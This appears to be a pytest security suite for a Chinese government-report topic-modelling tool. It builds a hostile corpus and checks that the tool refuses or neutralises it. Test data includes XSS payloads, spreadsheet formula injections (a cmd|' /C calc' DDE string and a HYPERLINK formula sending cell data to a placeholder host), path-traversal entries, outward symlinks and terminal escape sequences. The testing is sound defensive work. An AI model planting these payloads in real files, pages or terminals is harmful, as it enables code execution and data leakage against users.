"""A hostile corpus, built end to end: what each kind of untrusted input does to the outputs.

The corpus is the five seed reports with markup and script written into their paragraphs,
a file whose name is markup and a formula, a metadata table with formula-like and markup
cells, a link leading out of the folder and one staying inside, a 200 MB file, a 5 MB line
without a break and a 120,000-character one. It builds; a table naming ``../`` or an absolute
path is refused; the explorer runs nothing from report text in a real Chromium.
"""

from __future__ import annotations

import json
import os
import random
import re
from pathlib import Path

import pandas as pd
import pytest

from govtopics import load_corpus
from govtopics.build import OutputError, build, load_config
from govtopics.metadata import MetadataTableError
from govtopics.outputs import read_table
from govtopics.validation import intrusion_test

from _browser import browser, open_page  # noqa: F401  (browser is a fixture)

ROOT = Path(__file__).resolve().parents[1]
SEEDS = sorted((ROOT / "seeds").glob("*.txt"))
# Each payload would show a dialog (or load something) if it ever ran or became markup.
HOSTILE = ["<script>alert('h0')</script>", "<img src=x onerror=alert('h1')>", "</script><script>alert('h2')</script>",
           "<!--<svg onload=alert('h3')>", "<a href=\"javascript:alert('h4')\">链接</a>", "]]><iframe src=\"data:text/html,x\">"]
HOSTILE_NAME = "=1+2<img src=x onerror=alert('f')>"
FORMULA_START = "=SUM(1+1)*cmd|' /C calc'!A0 "  # starts a paragraph of each report
FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'
ONE_LINE_TITLE = "某县2023年法治政府建设情况报告\n"  # then 1,666,667 characters (5,000,001 bytes) on one line
CONFIG = {"model": {"k": 3, "max_iter": 100}, "trends": {"n_boot": 20}, "figures": {"which": []}}


def hostile_report(text: str, offset: int) -> str:
    """The report with a payload after the first sentence of three of its paragraphs (of more than 60 characters).

    Three, not more: ten tags would make the text a saved web page, whose markup cleaning removes.
    The first of them starts with a formula.
    """
    lines = text.splitlines()
    long = [i for i, line in enumerate(lines) if len(line) > 60 and "。" in line]
    for n, i in enumerate(long[:3]):
        head, _, tail = lines[i].partition("。")
        lines[i] = f"{FORMULA_START if n == 0 else ''}{head}{HOSTILE[(n + offset) % len(HOSTILE)]}。{tail}"
    return "\n".join(lines) + "\n"


def one_line(n_chars: int, seed: int) -> str:
    """Characters of the seed reports in a random order, without a line break or punctuation."""
    chars = sorted({c for path in SEEDS for c in path.read_text(encoding="utf-8") if "\u4e00" <= c <= "\u9fff"})
    rng = random.Random(seed)
    return "".join(rng.choice(chars) for _ in range(n_chars))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    folder = base / "corpus"
    (folder / "sub").mkdir(parents=True)
    (base / "outside").mkdir()
    names = [HOSTILE_NAME, "b", "c", "d"]
    for i, (path, name) in enumerate(zip(SEEDS[:4], names)):
        (folder / f"{name}.txt").write_text(hostile_report(path.read_text(encoding="utf-8"), i), encoding="utf-8")
    # a link staying inside the folder is followed: the report sits in a hidden folder that is not walked itself
    (folder / ".kept").mkdir()
    (folder / ".kept" / "e.txt").write_text(hostile_report(SEEDS[4].read_text(encoding="utf-8"), 4), encoding="utf-8")
    (folder / "sub" / "e-link.txt").symlink_to(Path("..") / ".kept" / "e.txt")
    # a link leading out of the folder is not followed, whatever it names
    (base / "outside" / "secret.txt").write_text(SEEDS[0].read_text(encoding="utf-8").replace("2025", "2019"),
                                                 encoding="utf-8")
    (folder / "leak.txt").symlink_to(base / "outside" / "secret.txt")
    # sizes far beyond any report: 200 MB (sparse: nothing is written to disk), a 5 MB line, a 120,000-character line
    with open(folder / "huge.txt", "wb") as handle:
        handle.truncate(200_000_000)
    (folder / "oneline.txt").write_text(ONE_LINE_TITLE + one_line(5_000_000 // 3 + 1, 1), encoding="utf-8")
    (folder / "longline.txt").write_text("某县2021年法治政府建设情况报告\n" + one_line(120_000, 2), encoding="utf-8")
    table = pd.DataFrame({"path": [f"{HOSTILE_NAME}.txt", "b", "c.txt", "d"],
                          "unit": ["<img src=x onerror=alert('u')>县人民政府", "-某镇人民政府", "@某区人民政府", "某市人民政府"],
                          "note": [FORMULA, "-2+3+cmd|' /C calc'!A0", "+86 10 12345678", "普通备注"],
                          "population": [-12, 30, 45, 50]})
    table.to_csv(base / "reports.csv", index=False)
    return base


def config_for(base: Path, **corpus) -> object:
    return load_config(**CONFIG | {"corpus": {"path": str(base / "corpus"), **corpus}})


@pytest.fixture(scope="module")
def built(corpus, tmp_path_factory):
    cache = tmp_path_factory.mktemp("cache")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GOVTOPICS_CACHE", str(cache))
        out = corpus / "out"
        manifest = build(config_for(corpus, metadata=str(corpus / "reports.csv")), out=out)
        yield out, manifest, cache


def inputs(manifest):
    return {row["path"]: row for row in manifest["inputs"]}


@pytest.mark.parametrize("bad, why", [("../outside/secret.txt", "goes up a folder with '..'"),
                                      ("/etc/passwd", "is absolute"), ("C:\\reports\\a.txt", "is absolute")])
def test_a_table_naming_a_path_outside_the_corpus_is_refused_and_nothing_is_written(corpus, tmp_path, bad, why):
    table = pd.read_csv(corpus / "reports.csv")
    table.loc[len(table)] = [bad, "某县", "备注", 1]
    table.to_csv(tmp_path / "bad.csv", index=False)
    with pytest.raises(MetadataTableError) as error:
        build(config_for(corpus, metadata=str(tmp_path / "bad.csv")), out=tmp_path / "out")
    assert str(error.value) == (f"metadata table bad.csv: row 6 names {bad!r} in path, which {why}: a table names "
                                "files by their path under the corpus folder, so it is not used")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_every_input_is_accounted_for_and_the_outsized_ones_are_skipped_or_split(built):
    out, manifest, _ = built
    rows = inputs(manifest)
    loaded = {path for path, row in rows.items() if row["status"] == "loaded"}
    assert loaded == {f"{HOSTILE_NAME}.txt", "b.txt", "c.txt", "d.txt", "longline.txt", ".kept/e.txt"}
    # the link inside is followed (and shown by where it leads); the one leading out is not, and its target is not read
    leak = rows[next(p for p in rows if p.endswith("leak.txt"))]
    assert leak["status"] == "skipped" and leak["sha256"] is None
    assert leak["reason"].startswith("link leading outside the corpus folder (to ") and leak["reason"].endswith(
        "outside/secret.txt): not followed")
    assert rows["huge.txt"]["reason"] == "too large: 200 MB > 50 MB limit" and rows["huge.txt"]["sha256"] is None
    assert rows["oneline.txt"]["reason"] == f"too long: {len(ONE_LINE_TITLE) + 1_666_667:,} characters > 1,000,000 limit"
    audit = {(n["subject"], n["field"]): n["message"] for n in manifest["metadata_audit"]}
    assert audit["longline", "text"] == ("a line of 120,000 characters without a break, beyond any report's paragraph: "
                                         "cut into units of at most 300 characters")
    units = read_table(out / "tables" / "unit_topics.csv")
    assert (units["doc_id"] == "longline").sum() == 400  # 120,000 characters in units of 300
    line = load_corpus(out.parent / "corpus" / "longline.txt")[0]
    assert [len(unit.text) for unit in line.units] == [300] * 400
    assert manifest["counts"] == manifest["counts"] | {"loaded": 6, "skipped": 3}


def test_formula_like_cells_are_neutralised_and_read_back(built):
    out, _, _ = built
    raw = (out / "tables" / "documents.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and "'@某区人民政府" in raw and "'-某镇人民政府" in raw and "'-2+3+cmd|" in raw
    assert "'+86 10 12345678" in raw and "\n=" not in raw and ",=" not in raw
    assert f"'{HOSTILE_NAME}" in raw
    documents = read_table(out / "tables" / "documents.csv")
    by_id = documents.set_index("id")
    assert by_id.loc[HOSTILE_NAME, "note"] == FORMULA and by_id.loc["c", "unit"] == "@某区人民政府"
    assert by_id.loc["b", "note"] == "-2+3+cmd|' /C calc'!A0"
    # numbers are numbers, negative ones too
    assert by_id.loc[HOSTILE_NAME, "population"] == -12 and re.search(r",-12(,|\n|$)", raw)


def test_the_explorer_runs_nothing_from_report_text(built, browser):  # noqa: F811
    out, _, _ = built
    page_text = (out / "explorer.html").read_text(encoding="utf-8")
    assert page_text.count("<script") == 2 and page_text.count("</script>") == 2 and page_text.count("<!--") == 0
    assert "onerror=alert" not in page_text.replace("\\u003c", "")[:page_text.index('id="govtopics-data"')]
    watched = open_page(browser, out / "explorer.html")
    page = watched.page
    page.click('#topic-list button[data-topic="0"]')
    shown = page.inner_text("body")
    for k in range(3):
        page.click(f'#topic-list button[data-topic="{k}"]')
        shown += page.inner_text("#passages")
    assert sum(payload in shown for payload in HOSTILE) >= 3  # shown as text
    assert page.locator("img, iframe, svg [onload], a[href^=javascript]").count() == 0
    assert page.locator("script").count() == 2
    watched.assert_quiet({(out / "explorer.html").resolve().as_uri()})


def test_the_validation_sheet_runs_nothing_and_its_csvs_are_neutralised(built, browser, tmp_path):  # noqa: F811
    from govtopics.analysis import Analysis

    _, _, cache = built
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GOVTOPICS_CACHE", str(cache))
        analysis = Analysis(config_for(built[0].parent, metadata=str(built[0].parent / "reports.csv")), progress=False)
        texts, topics = analysis._texts(), analysis.unit_topics
        texts = texts[texts["text"].map(lambda text: any(p in text for p in HOSTILE))]
        keys = ["doc_id", "unit_index"]
        topics = topics.merge(texts[keys], on=keys)
        texts = texts.merge(topics[keys], on=keys)
        assert len(texts) >= 10
        test = intrusion_test(analysis.model, texts, topics, n_passages=len(texts), n_top_topics=2)
    assert sum(any(p in text for p in HOSTILE) for text in test.sheet["text"].dropna()) >= 5
    paths = test.write(tmp_path)
    sheet = (tmp_path / "intrusion_sheet.csv").read_text(encoding="utf-8-sig")
    assert ",topic,\"'=SUM(1+1)*cmd|" in sheet
    assert not re.search(r"(^|,)\"?[=+@-]", sheet, re.M)  # formula-like options and passages start with '
    assert read_table(tmp_path / "intrusion_sheet.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)[
        "text"].tolist() == test.sheet["text"].fillna("").astype(str).tolist()
    watched = open_page(browser, paths["form"])
    body = watched.page.inner_text("body")
    assert sum(payload in body for payload in HOSTILE) >= 3
    assert watched.page.locator("img, iframe, svg, a[href^=javascript]").count() == 0
    watched.assert_quiet({paths["form"].resolve().as_uri()})


def test_a_truncated_cache_entry_is_rebuilt_with_a_note_and_the_outputs_are_the_same(built):
    out, first, cache = built
    entry = next((cache / "build").glob("model-*.gts"))
    entry.write_bytes(entry.read_bytes()[:1000])
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GOVTOPICS_CACHE", str(cache))
        (out / "my notes.txt").write_text("mine", encoding="utf-8")
        second = build(config_for(out.parent, metadata=str(out.parent / "reports.csv")), out=out)
    assert "model" not in second["stage_cache_hits"]
    note = [n for n in second["cache_notes"] if entry.name in n]
    assert len(note) == 1 and re.fullmatch(rf"stage cache entry {re.escape(entry.name)} \(model\) is damaged: truncated "
                                           r"or extended: \d+ bytes where \d+ were written; computed again", note[0])
    assert second["outputs"] == first["outputs"]
    assert (out / "my notes.txt").read_text(encoding="utf-8") == "mine"


def test_an_output_folder_holding_files_no_build_wrote_is_left_untouched(corpus, built, tmp_path):
    out = tmp_path / "out"
    (out / "tables").mkdir(parents=True)
    (out / "tables" / "documents.csv").write_text("my own table\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GOVTOPICS_CACHE", str(built[2]))
        with pytest.raises(OutputError, match=r"tables/documents.csv was not written by a govtopics build.*Nothing was "
                                              r"changed"):
            build(config_for(corpus, metadata=str(corpus / "reports.csv")), out=out)
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == ["tables", "tables/documents.csv"]
    assert (out / "tables" / "documents.csv").read_text(encoding="utf-8") == "my own table\n"
    manifest = json.loads((built[0] / "manifest.json").read_text(encoding="utf-8"))
    assert "tables/documents.csv" in manifest["outputs"] and os.path.isfile(built[0] / "tables" / "documents.csv")


def test_the_page_policy_refuses_script_and_markup_the_page_did_not_ship(built, browser):  # noqa: F811
    """The second line of defence: were report text ever handed to a script or HTML sink, the browser refuses it."""
    out, _, _ = built
    watched = open_page(browser, out / "explorer.html")
    outcome = watched.page.evaluate("""() => {
        const tried = {};
        window.ran = false;
        for (const [name, attempt] of Object.entries({
            inline: () => { const s = document.createElement("script"); s.text = "window.ran = true"; document.body.append(s); },
            html: () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = true'>"); },
        })) {
            try { attempt(); tried[name] = "allowed"; } catch (error) { tried[name] = error.name; }
        }
        return [window.ran, tried, document.images.length];
    }""")
    assert outcome == [False, {"inline": "TypeError", "html": "TypeError"}, 0]
    assert all(m[0] == "error" for m in watched.console) and watched.dialogs == []


@pytest.mark.parametrize("key, value", [("metadata", "../reports.csv"), ("user_dicts", ["/etc/hostname"]),
                                        ("path", "..")])
def test_a_config_inside_the_corpus_folder_may_name_only_files_in_it(corpus, tmp_path, key, value):
    from govtopics.config import Config, ConfigError

    folder = tmp_path / "shipped"
    folder.mkdir()
    (folder / "a.txt").write_text(SEEDS[0].read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "link.csv").symlink_to(corpus / "reports.csv")  # a link out of the folder
    section = "tokens" if key == "user_dicts" else "corpus"
    toml = folder / "govtopics.toml"
    entries = {"corpus": {"path": "."}, "tokens": {}}
    entries[section][key] = value
    toml.write_text("".join(f"[{name}]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in values.items())
                            for name, values in entries.items()), encoding="utf-8")
    if key == "path":  # the corpus is the folder above: this file is inside it, and names only files there
        assert Config.from_toml(toml).corpus.path == str(tmp_path)
        return
    with pytest.raises(ConfigError) as error:
        Config.from_toml(toml)
    shown = value[0] if isinstance(value, list) else value
    assert str(error.value) == (f"{toml}: {section}.{key} = {shown!r} leads outside the corpus folder {folder}, which "
                                "holds this config file: a config that comes with a corpus may name only files in it "
                                "(move the file out of the corpus folder if you wrote it yourself)")
    toml.write_text('[corpus]\npath = "."\nmetadata = "link.csv"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="corpus.metadata = 'link.csv' leads outside the corpus folder"):
        Config.from_toml(toml)
    (tmp_path / "mine.toml").write_text(f'[corpus]\npath = "shipped"\nmetadata = "{corpus / "reports.csv"}"\n',
                                        encoding="utf-8")
    assert Config.from_toml(tmp_path / "mine.toml").corpus.metadata == str(corpus / "reports.csv")  # your own file


def test_an_output_folder_never_writes_or_removes_outside_itself(tmp_path):
    from govtopics.analysis import sha256_file
    from govtopics.build import OutputFolder

    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("keep me", encoding="utf-8")
    (out / "link.png").symlink_to(victim)
    # a manifest someone left in the folder, listing files outside it (by their true hashes) as earlier outputs
    listed = {"../victim.txt": sha256_file(victim), str(victim): sha256_file(victim), "link.png": sha256_file(victim)}
    (out / "manifest.json").write_text(json.dumps({"govtopics_build": 3, "outputs": listed}), encoding="utf-8")
    with OutputFolder(out) as folder:
        assert folder.previous == {"link.png": sha256_file(victim)}
        with pytest.raises(OutputError, match=r"an output named '../victim.txt' would lead outside"):
            with folder.staged("../victim.txt") as path:
                path.write_text("x", encoding="utf-8")
        with folder.staged("a.png") as path:
            path.write_bytes(b"png")
        assert folder.commit() == {"a.png": sha256_file(out / "a.png")}
    assert victim.read_text(encoding="utf-8") == "keep me" and (out / "link.png").is_symlink()
    assert sorted(p.name for p in out.iterdir()) == ["a.png", "link.png", "manifest.json"]


def test_report_text_printed_to_a_terminal_cannot_drive_it(tmp_path, monkeypatch):
    """ESC sequences (retitle the window, clear the screen) and a bidi override in a report reach a terminal as text."""
    import io

    from govtopics.cli import main

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    folder = tmp_path / "corpus"
    folder.mkdir()
    text = SEEDS[0].read_text(encoding="utf-8").replace("扎实推进各项工作", "扎实推进\x1b]0;pwned\x07\u202e各项\x1b[2J工作", 1)
    (folder / "a.txt").write_text(text, encoding="utf-8")
    monkeypatch.setenv("GOVTOPICS_CACHE", str(tmp_path / "cache"))
    terminal, piped = Terminal(), io.StringIO()
    for stream in (terminal, piped):
        monkeypatch.setattr("sys.stdout", stream)
        assert main(["kwic", str(folder), "各项"]) == 0
    shown = terminal.getvalue()
    assert "\\x1b]0;pwned\\x07\\u202e【各项】\\x1b[2J工作" in shown
    assert not re.search("[\x1b\x07\u202e]", shown)
    assert "\x1b]0;pwned\x07\u202e【各项】\x1b[2J工作" in piped.getvalue()  # piped output is the data as it is
